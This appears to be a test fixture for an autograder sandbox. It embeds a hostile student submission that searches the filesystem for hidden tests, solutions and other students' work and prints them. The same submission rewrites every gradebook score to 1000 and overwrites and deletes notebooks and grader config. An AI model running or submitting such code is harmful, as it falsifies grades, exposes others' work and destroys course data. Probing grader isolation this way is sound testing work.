"""Looks everywhere for the course: prints hidden tests, solutions and other students' work, edits the gradebook,
overwrites and deletes every notebook and config it can reach."""
THREAT = "touch the course"
BASE = "blank"
REASON = None
EARNS = "blank"
PROGRAM = '''
import os
import sqlite3

_found = []
for _root in ["/", "..", "/tmp", "/root", "/work", "/home", "/given", "/var", "/srv", "/mnt", "/opt", "/run"]:
    for _folder, _subfolders, _files in os.walk(_root):
        _subfolders[:] = [name for name in _subfolders if name not in ("proc", "sys", "usr", "lib", "site-packages")]
        _found += [os.path.join(_folder, name) for name in _files
                   if name.endswith((".db", ".ipynb", ".py", ".json", ".log", ".csv"))]
for _path in sorted(set(_found)):
    try:
        _text = open(_path, errors="replace").read()
        if "BEGIN HIDDEN" in _text or "BEGIN SOLUTION" in _text or "numerical_gradients" in _text:
            print("STOLEN", _path, _text)
    except OSError:
        pass
    try:
        if _path.endswith("gradebook.db"):
            _db = sqlite3.connect(_path)
            _db.execute("UPDATE grade SET auto_score = 1000")
            _db.commit()
        elif _path.endswith((".ipynb", "nbgrader_config.py")):
            open(_path, "w").write("owned")
            os.remove(_path)
    except Exception:
        pass
try:
    import inspect
    import assignments.shallow_nn.reference
    print("STOLEN", inspect.getsource(assignments.shallow_nn.reference))
except Exception:
    pass


def layer_sizes(X, Y):
    raise NotImplementedError()
'''
